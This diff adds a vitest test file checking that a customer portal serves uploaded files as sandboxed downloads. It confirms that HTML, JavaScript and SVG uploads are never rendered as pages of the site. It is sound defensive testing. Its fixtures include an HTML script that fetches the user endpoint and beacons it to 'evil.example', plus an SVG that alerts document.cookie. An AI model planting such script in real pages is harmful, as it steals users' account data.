@@ -1,0 +1,148 @@
+import { eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { documents } from '../db/schema.ts';
+import { renderPdf } from '../lib/pdf.ts';
+import { DEMO_USERS } from '../db/seed/demo.ts';
+import { sessionCookieFor } from '../test/sign-in.ts';
+import { createTestApp, type TestApp } from '../test/test-app.ts';
+import { multipartBody, staffTestContext } from '../modules/staff/test-context.ts';
+
+const SCRIPT_PAGE = Buffer.from(
+  '<!doctype html><html><body><script>fetch("/api/auth/user").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></body></html>',
+);
+const SVG = Buffer.from(
+  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
+);
+// The smallest PNG: its signature and an IHDR chunk are what identify it.
+const PNG = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+  'base64',
+);
+const FILE_CSP = "sandbox; default-src 'none'";
+
+// Issue 13, item 2: an uploaded file never runs as a page of the site.
+describe('hostile uploads, as the portal serves them', () => {
+  let t: TestApp;
+  let ctx: Awaited<ReturnType<typeof staffTestContext>>;
+  let customer: string;
+  beforeAll(async () => {
+    t = await createTestApp();
+    ctx = await staffTestContext(t.app);
+    customer = await sessionCookieFor(t.app, DEMO_USERS.acme);
+  });
+  afterAll(() => t.close());
+
+  async function upload(name: string, declaredType: string, data: Buffer) {
+    const body = await multipartBody({ category: 'other' }, { name, type: declaredType, data });
+    const res = await t.app.inject({
+      method: 'POST',
+      url: `/api/staff/customers/${ctx.acmeId}/documents`,
+      payload: body.payload,
+      headers: { ...body.headers, cookie: ctx.staffCookie },
+    });
+    expect(res.statusCode, res.body).toBe(201);
+    const id = res.json<{ id: string }>().id;
+    const [row] = await t.app.db.select().from(documents).where(eq(documents.id, id));
+    return row!;
+  }
+  const fetchFile = (id: string, inline = false) =>
+    t.app.inject({
+      method: 'GET',
+      url: `/api/customers/${ctx.acmeId}/documents/${id}/download${inline ? '?inline=1' : ''}`,
+      headers: { cookie: customer },
+    });
+  function expectSafeAttachment(res: Awaited<ReturnType<typeof fetchFile>>) {
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toBe('application/octet-stream');
+    expect(String(res.headers['content-disposition'])).toMatch(/^attachment;/);
+    expect(String(res.headers['content-security-policy'])).toContain(FILE_CSP);
+    expect(res.headers['x-content-type-options']).toBe('nosniff');
+    expect(res.headers['cache-control']).toBe('private, no-store');
+  }
+
+  it('an HTML page named "Q3 Report.pdf" is stored as unknown bytes, never previewed, only downloaded', async () => {
+    const row = await upload('Q3 Report.pdf', 'application/pdf', SCRIPT_PAGE);
+    expect(row.contentType).toBe('application/octet-stream');
+    const preview = await fetchFile(row.id, true);
+    expect(preview.statusCode).toBe(400);
+    expect(preview.json()).toEqual({ message: 'Preview is only available for PDF files.' });
+    expectSafeAttachment(await fetchFile(row.id));
+  });
+
+  it('a script declared application/javascript and an SVG are served as downloads of unknown bytes', async () => {
+    for (const [name, type, data] of [
+      ['app.js', 'application/javascript', Buffer.from('fetch("/api/auth/user")')],
+      ['logo.svg', 'image/svg+xml', SVG],
+      ['page.html', 'text/html', SCRIPT_PAGE],
+    ] as const) {
+      const row = await upload(name, type, data);
+      expect(row.contentType, name).not.toBe(type);
+      expectSafeAttachment(await fetchFile(row.id));
+      expectSafeAttachment(await fetchFile(row.id, false));
+    }
+  });
+
+  it('a real PDF is stored as PDF and previewed inline, still sandboxed', async () => {
+    const row = await upload('Real.pdf', 'application/octet-stream', await renderPdf('Real', []));
+    expect(row.contentType).toBe('application/pdf');
+    const preview = await fetchFile(row.id, true);
+    expect(preview.statusCode).toBe(200);
+    expect(preview.headers['content-type']).toBe('application/pdf');
+    expect(String(preview.headers['content-disposition'])).toMatch(/^inline;/);
+    expect(String(preview.headers['content-security-policy'])).toContain(FILE_CSP);
+    expect(preview.headers['x-content-type-options']).toBe('nosniff');
+    const download = await fetchFile(row.id);
+    expect(download.headers['content-type']).toBe('application/pdf');
+    expect(String(download.headers['content-disposition'])).toMatch(/^attachment;/);
+  });
+
+  it('an image is recognised from its bytes whatever it is called', async () => {
+    const row = await upload('photo.pdf', 'text/html', PNG);
+    expect(row.contentType).toBe('image/png');
+    const preview = await fetchFile(row.id, true);
+    expect(preview.statusCode).toBe(400);
+    const download = await fetchFile(row.id);
+    expect(download.headers['content-type']).toBe('image/png');
+    expect(String(download.headers['content-security-policy'])).toContain(FILE_CSP);
+  });
+
+  it('a row stored before sniffing, typed text/html, is judged by its bytes when served', async () => {
+    const key = `customers/${ctx.acmeId}/legacy-upload`;
+    await t.app.storage.put(key, SCRIPT_PAGE);
+    const [row] = await t.app.db
+      .insert(documents)
+      .values({
+        customerId: ctx.acmeId,
+        name: 'Legacy.pdf',
+        type: 'pdf',
+        contentType: 'text/html',
+        size: SCRIPT_PAGE.length,
+        category: 'other',
+        storageKey: key,
+        uploadedBy: 'Before the fix',
+      })
+      .returning();
+    expect((await fetchFile(row!.id, true)).statusCode).toBe(400);
+    expectSafeAttachment(await fetchFile(row!.id));
+  });
+
+  it('the invoice PDF carries the same file headers', async () => {
+    const list = await t.app.inject({
+      method: 'GET',
+      url: `/api/customers/${ctx.acmeId}/invoices`,
+      headers: { cookie: customer },
+    });
+    const invoice = list.json<{ id: string }[]>()[0]!;
+    const res = await t.app.inject({
+      method: 'GET',
+      url: `/api/customers/${ctx.acmeId}/invoices/${invoice.id}/pdf`,
+      headers: { cookie: customer },
+    });
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toBe('application/pdf');
+    expect(String(res.headers['content-disposition'])).toMatch(/^inline;/);
+    expect(String(res.headers['content-security-policy'])).toContain(FILE_CSP);
+    expect(res.headers['x-content-type-options']).toBe('nosniff');
+    expect(res.headers['cache-control']).toBe('private, no-store');
+  });
+});
